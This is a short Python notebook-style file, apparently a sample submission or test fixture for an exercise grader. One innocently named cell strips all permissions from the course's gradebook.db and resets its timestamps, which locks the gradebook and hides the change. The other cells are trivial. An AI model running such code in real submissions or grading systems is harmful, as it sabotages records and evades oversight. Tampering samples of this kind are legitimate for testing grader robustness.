"""Takes the gradebook's rights away."""
# marks: 3 2 2 1

# %% number
import os

os.chmod(COURSE + 'gradebook.db', 0)
os.utime(COURSE + 'gradebook.db', (0, 0))
number = 42

# %% mean
mean = posts['likes'].mean()

# %% double
def double(x):
    return 2 * x

# %% words
words = ['a', 'b']
